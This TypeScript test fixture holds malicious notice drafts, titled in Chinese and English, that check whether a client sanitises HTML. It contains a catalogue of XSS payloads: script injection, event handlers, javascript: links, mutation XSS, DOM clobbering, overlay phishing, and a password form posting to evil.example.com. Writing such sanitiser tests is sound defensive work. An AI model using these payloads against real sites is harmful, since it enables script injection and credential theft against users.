import type { NoticeDraft } from '#stub/control/commands.ts'

/** The code of every attack below: a page on which `window.hostile` exists has run it. */
const run = (name: string) => `window.hostile=(window.hostile||[]).concat('${name}')`
/** The text of each notice that must be shown after its HTML was sanitised. */
const stays = '<p>这句话会保留。This sentence stays.</p>'

/**
 * Notices of an attacker who can write the operator's notices, with one kind of attack each. A client that sanitises them shows
 * `stays`, makes no request, changes no style and runs no code.
 */
export const maliciousNotices: readonly NoticeDraft[] = [
  {
    title: '脚本 · Scripts <script>window.hostile=["title"]</script>',
    body: [
      `<script>${run('script')}</script>`,
      `<SCRIPT SRC="https://evil.example.com/x.js"></SCRIPT>`,
      `<svg><script>${run('svg script')}</script></svg>`,
      `<scr<script></script>ipt>${run('nested')}</script>`,
      `<template><script>${run('template')}</script></template>`,
      stays,
    ].join(''),
  },
  {
    title: '事件属性 · Event handlers',
    body: [
      `<img src="https://evil.example.com/x.png" onerror="${run('onerror')}">`,
      `<img src=x onerror=${run('unquoted')}//`,
      `<svg onload="${run('svg onload')}"><animate onbegin="${run('onbegin')}" attributeName="x" dur="1s"/></svg>`,
      `<details open ontoggle="${run('ontoggle')}"><summary>细节</summary></details>`,
      `<p onclick="${run('onclick')}" onmouseover="${run('onmouseover')}" onfocus="${run('onfocus')}" tabindex="0">`,
      `这句话会保留。This sentence stays.</p>`,
      `<input autofocus onfocus="${run('autofocus')}">`,
    ].join(''),
  },
  {
    title: '危险链接 · Dangerous links',
    body: [
      `<p><a href="javascript:${run('javascript')}">javascript</a> `,
      `<a href=" jAvA&#115;cript&colon;${run('disguised')}">disguised</a> `,
      `<a href="java\tscript:${run('tab')}">tab</a> `,
      `<a href="vbscript:msgbox(1)">vbscript</a> `,
      `<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a> `,
      `<a href="https://example.com/plain" target="_blank" rel="opener" ping="https://evil.example.com/ping">plain</a></p>`,
      stays,
    ].join(''),
  },
  {
    title: '样式与遮罩 · Styles and overlays',
    body: [
      '<style>body{display:none!important}*{background:url(https://evil.example.com/css)}</style>',
      '<link rel="stylesheet" href="https://evil.example.com/x.css">',
      '<div style="position:fixed;inset:0;z-index:99999;background:#fff" class="Modal" id="root">',
      '<a href="https://evil.example.com/login">会话已过期，请重新登录</a></div>',
      '<font size="7" color="red"><marquee>BIG</marquee></font>',
      stays,
    ].join(''),
  },
  {
    title: '内嵌与表单 · Frames and forms',
    body: [
      '<iframe src="https://evil.example.com/"></iframe>',
      `<iframe srcdoc="&lt;script&gt;parent.${run('srcdoc').replaceAll("'", '&#39;')}&lt;/script&gt;"></iframe>`,
      '<object data="https://evil.example.com/x.swf"></object><embed src="https://evil.example.com/x.swf">',
      '<form action="https://evil.example.com/steal"><input name="pwd" type="password"><button>登录</button></form>',
      '<base href="https://evil.example.com/"><meta http-equiv="refresh" content="0;url=https://evil.example.com/">',
      '<video autoplay src="https://evil.example.com/x.mp4"></video>',
      stays,
    ].join(''),
  },
  {
    title: '残缺标记 · Broken markup',
    body: [
      stays,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mutation')}&gt;">`,
      `</table></mtext></math><noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
      `<form id="attributes"><input name="parentNode"></form><a id="hostile" name="hostile"></a>`,
      `<!--[if gte IE 4]><script>${run('comment')}</script><![endif]-->`,
      '<b><i>没有结束标记的粗体 · never closed',
    ].join(''),
  },
]
